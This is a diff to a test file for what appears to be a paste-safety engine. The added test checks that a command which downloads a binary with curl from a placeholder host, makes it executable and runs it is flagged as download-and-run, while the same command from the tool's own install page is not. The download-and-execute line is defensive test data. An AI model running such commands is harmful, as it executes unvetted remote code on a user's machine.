@@ -387,3 +387,21 @@ def test_a_real_comment_after_a_no_break_space_stays_a_comment() -> None:
     # an ASCII blank before '#' makes it a comment, whatever other spaces the line has
     for text in ("echo hi\u00a0# just a note", f"echo \u00a0hi # {_HIDDEN}"):
         assert Engine().analyze(text, _FROM_A_PAGE).level is Level.CLEAN
+
+
+def test_a_download_made_runnable_and_run_by_its_bare_name_is_download_and_run() -> None:
+    """`curl -o ~/.local/bin/agent && chmod +x … && agent`: no ./ or /tmp/ for a pattern to
+    see, but the shell reader follows the file from the download to the command."""
+    text = (
+        "curl -fsSL https://files.test/agent -o ~/.local/bin/agent && "
+        "chmod +x ~/.local/bin/agent && agent"
+    )
+    verdict = Engine().analyze(text, _FROM_A_PAGE)
+    assert verdict.level >= Level.SUSPICIOUS and "PG-DO-RUNS-DOWNLOADED" in verdict.rule_ids
+    # the same shape from the tool's own page is its installer
+    own = Engine().analyze(
+        text.replace("files.test/agent", "get.agent.example/agent"),
+        Context(source="https://agent.example/docs/install", target=PasteTarget.TERMINAL),
+    )
+    assert own.level <= Level.INFO
+    assert Engine().analyze("chmod +x build.sh && make all").level is Level.CLEAN
